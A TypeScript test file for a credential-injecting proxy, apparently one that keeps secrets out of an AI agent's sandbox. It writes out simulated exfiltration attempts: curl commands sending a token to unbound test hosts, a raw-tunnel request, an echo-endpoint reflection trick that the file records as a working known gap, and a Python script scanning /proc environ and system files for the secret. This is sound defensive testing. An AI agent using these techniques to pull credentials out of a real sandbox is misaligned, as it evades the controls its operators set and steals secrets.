/**
 * Credentials against the proxy, from inside a real sandbox. The agent holds only
 * `carapace:cred:GITHUB_TOKEN`; the proxy swaps in the secret on requests to endpoints that bind it.
 * The agent tries to have the secret delivered elsewhere (an allowed host it is not bound to, in
 * every place a placeholder is replaced), to learn it (a bound upstream that echoes the request
 * back, which SUCCEEDS: a known gap, pinned here and listed in docs/security.md), and to find it
 * anywhere the run leaves files.
 */
import { createHash, randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freshHome } from '../helpers/cli.js';
import { sharedTempDir } from '../helpers/sandbox.js';
import { startUpstreams, type Upstreams } from '../proxy/harness.js';
import { findings, python, refusals, runInside, sandboxFindings, type Outcome } from './proxy-sandbox.js';

let up: Upstreams;
beforeAll(async () => {
  up = await startUpstreams();
});
afterAll(() => up.close());

const NAMES = ['api.github.test', 'other.test', 'raw.test'];
const PLACEHOLDER = 'carapace:cred:GITHUB_TOKEN';

function network(): string {
  return `  github:
    name: github
    endpoints:
      - { host: api.github.test, port: ${up.httpsPort}, protocol: rest, access: full, credentials: [GITHUB_TOKEN] }
      - { host: other.test, port: ${up.httpsPort}, protocol: rest, access: full }
      - { host: other.test, port: ${up.httpPort}, access: full }
      - { host: raw.test, port: ${up.httpsPort}, access: full }
`;
}

interface Run extends Outcome {
  secret: string;
  home: string;
  workspace: string;
  auditDir: string;
}

/** A run with a fresh secret (its value never appears in the sandbox's command or environment). */
async function withSecret(command: string[]): Promise<Run> {
  const secret = `cpsecret_${randomBytes(16).toString('hex')}`;
  const home = freshHome();
  const workspace = sharedTempDir('carapace-ws-');
  const auditDir = sharedTempDir();
  const o = await runInside(
    {
      network: network(),
      up,
      names: NAMES,
      options: ['--credential', 'GITHUB_TOKEN', '--workspace', workspace],
      env: { GITHUB_TOKEN: secret },
      home,
      auditFile: join(auditDir, 'audit.jsonl'),
    },
    command,
  );
  return { ...o, secret, home, workspace, auditDir };
}

/** curl printing only the status code. */
const status = (args: string) => `curl -sS -o /dev/null -w '%{http_code}\\n' ${args}`;
const seen = (path: string) => up.seen.filter((s) => s.url.startsWith(path));

describe('a placeholder sent where it is not bound', () => {
  it('to an allowed host it is not bound to: 403 and an unbound-credential finding, wherever it is put', async () => {
    const https = `https://other.test:${up.httpsPort}`;
    const r = await withSecret([
      'sh',
      '-c',
      [
        status(`-H "Authorization: Bearer $GITHUB_TOKEN" ${https}/unbound-bearer`),
        status(`-u "x-access-token:$GITHUB_TOKEN" ${https}/unbound-basic`),
        status(`-H "Cookie: session=$GITHUB_TOKEN" ${https}/unbound-cookie`),
        status(`"${https}/unbound-query?token=$GITHUB_TOKEN"`),
        status(`"${https}/unbound-path/carapace%3Acred%3AGITHUB_TOKEN"`),
        // A forward request to an endpoint that is not even inspected: placeholders are still checked.
        status(`-H "X-Api-Key: $GITHUB_TOKEN" http://other.test:${up.httpPort}/unbound-forward`),
        // Baseline: the same header to the host it is bound to goes through, with the secret.
        status(`-H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.test:${up.httpsPort}/bound`),
      ].join('; '),
    ]);
    expect(r.stdout.trim().split('\n')).toEqual(['403', '403', '403', '403', '403', '403', '200']);
    expect(findings(r.audit)).toEqual(Array(6).fill('unbound-credential'));
    const details = sandboxFindings(r.audit).map((e) => JSON.stringify(e));
    for (const d of details) expect(d).toContain('GITHUB_TOKEN');
    expect(refusals(r.audit, 4002)).toHaveLength(6);
    expect(seen('/unbound-')).toEqual([]);
    expect(seen('/bound')[0]?.headers.authorization).toBe(`Bearer ${r.secret}`);
  });

  it('plain HTTP inside a raw tunnel to an unbound host: 403 and a finding', async () => {
    const r = await withSecret(
      python(
        [
          'import os',
          `s = tunnel('other.test:${up.httpPort}')`,
          `converse(s, ['GET /unbound-tunnel HTTP/1.1\\r\\nHost: other.test\\r\\nAuthorization: Bearer ' + os.environ['GITHUB_TOKEN'] + '\\r\\n\\r\\n'])`,
        ].join('\n'),
      ),
    );
    expect(r.results[0]?.responses.map((x) => x.status)).toEqual([403]);
    expect(findings(r.audit)).toEqual(['unbound-credential']);
    expect(seen('/unbound-tunnel')).toEqual([]);
  });

  it('inside a raw (uninspected) TLS tunnel the placeholder cannot be seen, so it stays a placeholder', async () => {
    const r = await withSecret([
      'sh',
      '-c',
      status(`-k -H "Authorization: Bearer $GITHUB_TOKEN" https://raw.test:${up.httpsPort}/raw-placeholder`),
    ]);
    expect(r.stdout.trim()).toBe('200');
    expect(seen('/raw-placeholder')[0]?.headers.authorization).toBe(`Bearer ${PLACEHOLDER}`);
  });
});

describe('a placeholder in a request body', () => {
  it('is not substituted: the bound upstream receives the placeholder text, never the secret', async () => {
    const body = `token=${PLACEHOLDER}&again=${PLACEHOLDER}`;
    const url = `https://api.github.test:${up.httpsPort}`;
    const r = await withSecret([
      'sh',
      '-c',
      [
        `curl -sS --data-binary "token=$GITHUB_TOKEN&again=$GITHUB_TOKEN" ${url}/body-length; echo`,
        `printf 'token=%s&again=%s' "$GITHUB_TOKEN" "$GITHUB_TOKEN" | curl -sS -H 'Transfer-Encoding: chunked' --data-binary @- ${url}/body-chunked; echo`,
      ].join('; '),
    ]);
    const sha = (s: string) => createHash('sha256').update(s).digest('hex');
    const echoed = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { url: string; sha256: string; headers: Record<string, string> });
    expect(echoed.map((e) => e.url)).toEqual(['/body-length', '/body-chunked']);
    expect(echoed[1]?.headers['transfer-encoding']).toBe('chunked');
    for (const e of echoed) {
      expect(e.sha256).toBe(sha(body));
      expect(e.sha256).not.toBe(sha(body.replaceAll(PLACEHOLDER, r.secret)));
    }
  });
});

describe('reflection by a bound upstream (known gap)', () => {
  // docs/security.md, known gaps: response bodies are not scanned. The secret is delivered to the
  // upstream it is bound to, as intended; an upstream that echoes the request (an echo endpoint, an
  // error message that quotes the query or path) hands it back to the agent. This pins down the
  // current behaviour, so that closing the gap changes this test.
  it('an upstream that echoes the request back hands the agent the secret (header and query)', async () => {
    const url = `https://api.github.test:${up.httpsPort}`;
    const r = await withSecret([
      'sh',
      '-c',
      [
        `curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" ${url}/echo-header; echo`,
        `curl -sS "${url}/echo-query?q=$GITHUB_TOKEN"; echo`,
      ].join('; '),
    ]);
    const [header, query] = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { url: string; headers: Record<string, string> });
    expect(header?.headers.authorization).toBe(`Bearer ${r.secret}`);
    expect(query?.url).toBe(`/echo-query?q=${r.secret}`);
  });
});

describe('the secret at rest', () => {
  it('never reaches the audit file, the workspace, the state dir, or anything the agent can read', async () => {
    const https = (host: string, path: string) => `https://${host}:${up.httpsPort}${path}`;
    const search = String.raw`
import glob, os
needle = ('cp' + 'secret_').encode()  # not spelled out: this script's own cmdline is scanned too
found = []
open('/tmp/control', 'wb').write(needle + b'control')  # the scan must find this one
def scan(path):
    try:
        with open(path, 'rb') as f:
            if needle in f.read():
                found.append(path)
    except OSError:
        pass
for root in ('/sandbox', '/tmp', '/.carapace', '/dev/shm', '/etc'):
    for d, _, files in os.walk(root):
        for f in files:
            scan(os.path.join(d, f))
for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    scan(p)
print('found:', found)
print('env:', [k for k, v in os.environ.items() if needle.decode() in v])
try:
    open('/proc/1/environ', 'rb').read()
    print('init environ: readable')
except OSError as e:
    print('init environ:', e.strerror)
`;
    const r = await withSecret([
      'sh',
      '-c',
      [
        'env > /sandbox/env-dump',
        status(`-H "Authorization: Bearer $GITHUB_TOKEN" ${https('api.github.test', '/rest-bound')}`),
        status(`-u "u:$GITHUB_TOKEN" -o /sandbox/body ${https('api.github.test', '/rest-basic')}`),
        status(`"${https('api.github.test', '/rest-query')}?token=$GITHUB_TOKEN"`),
        status(`-H "Authorization: Bearer $GITHUB_TOKEN" ${https('other.test', '/rest-unbound')}`),
        'python3 -c "$0"',
      ].join('; '),
      search,
    ]);
    const lines = r.stdout.trim().split('\n');
    expect(lines.slice(0, 4)).toEqual(['200', '200', '200', '403']);
    expect(lines.slice(4)).toEqual(["found: ['/tmp/control']", 'env: []', 'init environ: Permission denied']);
    expect(seen('/rest-bound')[0]?.headers.authorization).toBe(`Bearer ${r.secret}`);
    expect(findings(r.audit)).toEqual(['unbound-credential']);
    for (const dir of [r.home, r.workspace, r.auditDir]) expect(filesContaining(dir, r.secret)).toEqual([]);
    expect(readFileSync(join(r.workspace, 'env-dump'), 'utf8')).toContain(`GITHUB_TOKEN=${PLACEHOLDER}`);
    expect(r.stdout + r.stderr).not.toContain(r.secret);
    expect(r.audit.length).toBeGreaterThan(8);
  });
});

/** Every regular file under `dir` whose bytes contain `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  const hits: string[] = [];
  const walk = (d: string): void => {
    for (const name of readdirSync(d)) {
      const p = join(d, name);
      const st = statSync(p, { throwIfNoEntry: false });
      if (!st) continue;
      if (st.isDirectory()) walk(p);
      else if (st.isFile() && readFileSync(p).includes(needle)) hits.push(p);
    }
  };
  walk(dir);
  return hits;
}
